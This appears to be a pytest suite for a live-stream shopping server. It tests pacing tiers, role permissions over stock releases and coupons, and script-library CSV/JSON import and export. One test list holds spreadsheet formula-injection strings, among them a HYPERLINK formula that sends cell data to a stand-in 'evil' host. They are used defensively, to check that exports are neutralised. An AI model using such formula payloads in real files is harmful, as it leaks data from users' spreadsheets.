"""Pacing through a real server: the tier follows the crowd and the teleprompter's line
follows the tier; only the controller and the host pace the room."""

from __future__ import annotations

import json

import pytest

from live.protocol import CreateCoupon
from live.ops import Actor
from tests.support import ROOM, running_server, test_settings

RULES = {"mode": "fixed", "warm": 3, "hot": 50, "hold_s": 1, "floor": 1, "rotate_s": 3600}


@pytest.fixture
async def room(tmp_path):
    async with running_server(test_settings(tmp_path / "d")) as live:
        yield live


async def test_viewers_coming_and_going_move_the_tier_and_the_teleprompter(room):
    controller = await room.staff("controller")
    host = await room.staff("host")
    await controller.send({"type": "set_pacing", "rules": RULES})
    await controller.recv_type("ack")
    await controller.send({"type": "add_script_lines", "lines": [
        {"purpose": "hold", "tier": "cold", "text": "冷场：先别走，马上放福利"},
        {"purpose": "hold", "tier": "warm", "text": "人气上来了：{online} 人在看，准备放单"},
    ]})
    await controller.recv_type("ack")
    cold = await host.recv_where(lambda m: m["type"] == "prompt" and m["prompt"]["tier"] == "cold", timeout=5)
    assert cold["prompt"]["text"] == "冷场：先别走，马上放福利"

    viewers = [await room.viewer() for _ in range(3)]
    tier = await host.recv_type("tier", timeout=6)
    assert (tier["tier"], tier["previous"]) == ("warm", "cold")
    warm = await host.recv_where(lambda m: m["type"] == "prompt" and m["prompt"]["tier"] == "warm", timeout=5)
    assert warm["prompt"]["text"] == "人气上来了：{online} 人在看，准备放单"  # the host view fills {online}
    numbers = await host.recv_type("numbers")
    assert numbers["tier"] == "warm"

    for viewer in viewers:
        await viewer.close()
    back = await host.recv_type("tier", timeout=6)
    assert back["tier"] == "cold"
    again = await host.recv_where(lambda m: m["type"] == "prompt" and m["prompt"]["tier"] == "cold", timeout=5)
    assert again["prompt"]["text"].startswith("冷场")


PACING = [
    {"type": "set_pacing", "rules": {}},
    {"type": "add_script_lines", "lines": [{"purpose": "qa", "text": "x"}]},
    {"type": "delete_script_line", "line": "s1"},
    {"type": "set_show", "segments": [{"title": "x", "minutes": 1}]},
    {"type": "show", "action": "start"},
    {"type": "push_line", "text": "x"},
    {"type": "push_banner", "text": "x"},
]


@pytest.mark.parametrize("message", PACING, ids=[m["type"] for m in PACING])
async def test_viewers_and_guides_cannot_pace_the_room(room, message):
    before = await room.app.state.live.ops.pacing(ROOM)
    viewer = await room.viewer()
    await viewer.send(message)
    assert (await viewer.recv_type("error"))["code"] == "forbidden"
    guide = await room.staff("guide")
    await guide.send(message)
    assert (await guide.recv_type("error"))["code"] == "forbidden"
    assert await room.app.state.live.ops.pacing(ROOM) == before
    entries = await room.app.state.live.ops.actions(ROOM)
    assert [(e.role, e.result, e.code) for e in entries] == [("guide", "refused", "forbidden")]  # staff refusals are logged


@pytest.mark.parametrize("role", ["controller", "host"])
async def test_the_controller_and_the_host_pace_the_room(room, role):
    staff = await room.staff(role)
    await staff.send({"type": "set_show", "segments": [{"title": "暖场", "minutes": 1, "purpose": "welcome"}]})
    await staff.recv_type("ack")
    await staff.send({"type": "show", "action": "start"})
    changed = await staff.recv_where(lambda m: m["type"] == "show_changed" and m["show"]["clock"]["running"])
    assert changed["by"] == f"{role}:tester"
    segment = await staff.recv_type("segment", timeout=5)
    assert segment["title"] == "暖场"
    await staff.send({"type": "push_banner", "text": "8点放单", "seconds": 30})
    await staff.recv_type("ack")
    viewer = await room.viewer()
    assert viewer.welcome["banner"]["text"] == "8点放单"
    log = [e.action for e in await room.app.state.live.ops.actions(ROOM)]
    assert log == ["push_banner", "show", "set_show"]


async def test_scripts_export_and_import_as_csv_and_json(room):
    headers = {"Authorization": f"Bearer {room.token('controller')}"}
    csv = "purpose,tier,sku,product_role,text\nwelcome,cold,,,欢迎{宝宝/家人们}\nexplain,any,P1,,\"{product} 只要 {price}, 快\"\n"
    async with room.http() as http:
        added = await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode(), headers=headers)
        assert added.status_code == 200 and added.json()["type"] == "ack"
        exported = await http.get("/api/rooms/r1/scripts?format=csv", headers=headers)
        assert exported.content == b"\xef\xbb\xbf" + csv.replace("\n", "\r\n").encode()  # for Excel: a BOM, CRLF
        assert exported.headers["content-type"] == "text/csv; charset=utf-8"
        as_json = (await http.get("/api/rooms/r1/scripts", headers=headers)).json()["lines"]
        assert [line["text"] for line in as_json] == ["欢迎{宝宝/家人们}", "{product} 只要 {price}, 快"]
        bad = await http.post("/api/rooms/r1/scripts?format=csv", content=b"purpose,text\nshout,x\n", headers=headers)
        assert bad.status_code == 400 and "line 2" in bad.json()["message"]
        replaced = await http.post(
            "/api/rooms/r1/scripts?format=json&replace=1", content='[{"purpose": "thanks", "text": "谢谢"}]'.encode(), headers=headers
        )
        assert replaced.status_code == 200
        assert [line.text for line in await room.app.state.live.ops.scripts("r1")] == ["谢谢"]
        guide = {"Authorization": f"Bearer {room.token('guide')}"}
        refused = await http.post("/api/rooms/r1/scripts?format=json", content=b'[{"purpose": "qa", "text": "x"}]', headers=guide)
        assert refused.status_code == 403


async def staff_as(room, role: str, sub: str):
    """A staff socket for `role` with its own subject, to tell who did what."""
    client = await room.client()
    await client.hello(token=room.token(role, sub=sub))
    return client


async def test_a_host_cannot_sell_through_the_run_of_show(room):
    """A host paces the room but may not release stock or push coupons, so a segment
    that would (at once or after asking) is refused when a host sets it, over the
    socket and the HTTP command API alike, and a flash price of 0 never decodes."""
    store = room.app.state.live.ops
    coupon, _ = await store.create_coupon(ROOM, CreateCoupon("5 off", "amount", 500, 10), Actor("controller", "cleo"))
    stock = {p.sku: p.stock for p in await store.list_products()}
    host = await staff_as(room, "host", "hana")

    await host.send({"type": "set_show", "segments": [
        {"title": "x", "minutes": 5, "sku": "P1", "fire": {"kind": "release", "mode": "auto", "quantity": 7, "price": 0}}]})
    error = await host.recv_type("error", "ack")
    assert (error["type"], error["code"], error["path"]) == ("error", "bad_message", "$.segments[0].fire.price")
    fires = [
        {"kind": "release", "mode": "auto", "quantity": 7, "price": 1},
        {"kind": "release", "mode": "ask", "quantity": 7, "price": 1},
        {"kind": "coupon", "mode": "auto", "coupon": coupon.id},
    ]
    for fire in fires:
        await host.send({"type": "set_show", "segments": [
            {"title": "warm up", "minutes": 5}, {"title": "x", "minutes": 5, "sku": "P1", "fire": fire}]})
        error = await host.recv_type("error", "ack")
        assert (error["type"], error["code"], error["path"]) == ("error", "forbidden", "$.segments[1].fire"), fire
        assert error["params"] == {"fire": fire["kind"], "segment": 1}
    headers = {"Authorization": f"Bearer {room.token('host', sub='hana')}"}
    async with room.http() as http:
        refused = await http.post(f"/api/rooms/{ROOM}/commands", headers=headers, json={
            "type": "set_show", "segments": [{"title": "x", "minutes": 5, "sku": "P1", "fire": fires[0]}]})
    assert refused.status_code == 403 and refused.json()["params"] == {"fire": "release", "segment": 0}

    await host.send({"type": "show", "action": "start"})
    assert (await host.recv_type("error", "ack"))["type"] == "error"  # nothing was set to start
    assert (await store.pacing(ROOM)).show.segments == []
    assert await store.releases(ROOM) == [] and (await store.coupons(ROOM))[0].pushed_at is None
    assert {p.sku: p.stock for p in await store.list_products()} == stock
    log = [(e.role, e.action, e.result, e.code) for e in await store.actions(ROOM)]
    assert log == [("host", "show", "refused", "bad_message")] + [("host", "set_show", "refused", "forbidden")] * 4


async def test_a_segment_fires_as_whoever_set_it_whoever_drives_the_show(room):
    """The controller sets a release that fires at once and a coupon that asks first;
    the host drives the show. The release is the controller's (its event and the
    control log say so); the coupon's alert is one click for the controller, and the
    same click is refused to the host."""
    store = room.app.state.live.ops
    controller = await staff_as(room, "controller", "cleo")
    host = await staff_as(room, "host", "hana")
    coupon = (await store.create_coupon(ROOM, CreateCoupon("5 off", "amount", 500, 10), Actor("controller", "cleo")))[0].id
    await controller.send({"type": "set_show", "repeat": False, "segments": [
        {"title": "放单", "minutes": 5, "sku": "P1", "fire": {"kind": "release", "mode": "auto", "quantity": 7, "price": 690}},
        {"title": "领券", "minutes": 5, "fire": {"kind": "coupon", "mode": "ask", "coupon": coupon}},
    ]})
    await controller.recv_type("ack")

    await host.send({"type": "show", "action": "start"})
    release = (await host.recv_type("release", timeout=10))
    assert (release["release"]["sku"], release["release"]["quantity"], release["release"]["price"]) == ("P1", 7, 690)
    assert release["by"] == "controller:cleo"
    entry = (await host.recv_where(lambda m: m["type"] == "action" and m["entry"]["action"] == "plan_release"))["entry"]
    assert (entry["role"], entry["sub"], entry["result"]) == ("controller", "cleo", "ok")
    assert json.loads(entry["summary"]) == {"segment": "放单", "sku": "P1", "quantity": 7, "price": 690}

    await host.send({"type": "show", "action": "jump", "index": 1})
    alert = (await controller.recv_where(lambda m: m["type"] == "alert" and m["alert"]["kind"] == "segment_fire", timeout=10))["alert"]
    assert alert["action"] == {"type": "push_coupon", "coupon": coupon}
    assert alert["data"]["by"] == "controller:cleo"
    await host.send(alert["action"])
    assert (await host.recv_type("error"))["code"] == "forbidden"
    await controller.send(alert["action"])
    await controller.recv_type("ack")
    assert (await store.coupons(ROOM))[0].pushed_at is not None


TYPED = ["=HYPERLINK(\"http://evil/?\"&A1,\"点我\")", "+1 扣1", "-4792", "@SUM(1+1)", "'=已经引号", "＝全角", "欢迎\"家人们\", 快"]


async def test_an_exported_library_opens_inert_and_imports_back_the_same(room):
    """Lines that would run as formulas are written with a quote in front; importing
    the exported file in place of the library gives the same lines back."""
    import csv
    import io

    headers = {"Authorization": f"Bearer {room.token('controller')}"}
    lines = [{"purpose": "qa", "tier": "hot", "sku": None, "product_role": None, "text": text} for text in TYPED]
    async with room.http() as http:
        assert (await http.post("/api/rooms/r1/scripts?format=json", json=lines, headers=headers)).status_code == 200
        exported = (await http.get("/api/rooms/r1/scripts?format=csv", headers=headers)).content
        cells = [row[-1] for row in csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline=""))][1:]
        assert cells == ["'" + TYPED[0], "'+1 扣1", "'-4792", "'@SUM(1+1)", "''=已经引号", "'＝全角", TYPED[6]]
        again = await http.post("/api/rooms/r1/scripts?format=csv&replace=1", content=exported, headers=headers)
        assert again.status_code == 200, again.text
    library = await room.app.state.live.ops.scripts("r1")
    assert [line.text for line in library] == TYPED and len(library) == len(TYPED)


async def test_a_library_saved_by_excel_in_gbk_imports(room):
    headers = {"Authorization": f"Bearer {room.token('controller')}"}
    csv = "purpose,tier,text\r\nwelcome,cold,欢迎家人们，点点关注\r\nhold,any,'=别走\r\n"
    async with room.http() as http:
        added = await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode("gb18030"), headers=headers)
        assert added.status_code == 200, added.text
        assert [line.text for line in await room.app.state.live.ops.scripts("r1")] == ["欢迎家人们，点点关注", "=别走"]
        utf16 = await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode("utf-16"), headers=headers)
        assert utf16.status_code == 400 and utf16.json()["code"] == "file_encoding"
    assert len(await room.app.state.live.ops.scripts("r1")) == 2


def _lines(n: int, text: str = "x") -> list[dict]:
    return [{"purpose": "qa", "text": f"{text}{i}"} for i in range(n)]


async def test_the_library_cap_holds_on_every_path(room):
    """Socket, HTTP command, CSV import and JSON import all stop at 1,000 lines with
    `script_library_full` and its numbers; none changes the library."""
    headers = {"Authorization": f"Bearer {room.token('controller')}"}
    controller = await room.staff("controller")
    await controller.send({"type": "add_script_lines", "lines": _lines(600)})
    await controller.recv_type("ack")
    await controller.send({"type": "add_script_lines", "lines": _lines(401)})
    refused = await controller.recv_type("error")
    assert (refused["code"], refused["params"]) == ("script_library_full", {"limit": 1000, "lines": 1001})
    csv = "purpose,text\n" + "".join(f"qa,c{i}\n" for i in range(1001))
    async with room.http() as http:
        answers = [
            await http.post("/api/rooms/r1/commands", json={"type": "add_script_lines", "lines": _lines(401)}, headers=headers),
            await http.post("/api/rooms/r1/scripts?format=csv", content=csv.encode(), headers=headers),
            await http.post("/api/rooms/r1/scripts?format=csv&replace=1", content=csv.encode(), headers=headers),
            await http.post("/api/rooms/r1/scripts?format=json", json=_lines(401), headers=headers),
        ]
    for answer, lines in zip(answers, (1001, 1601, 1001, 1001)):
        assert answer.status_code == 409, answer.text
        assert (answer.json()["code"], answer.json()["params"]) == ("script_library_full", {"limit": 1000, "lines": lines})
    assert len(await room.app.state.live.ops.scripts("r1")) == 600
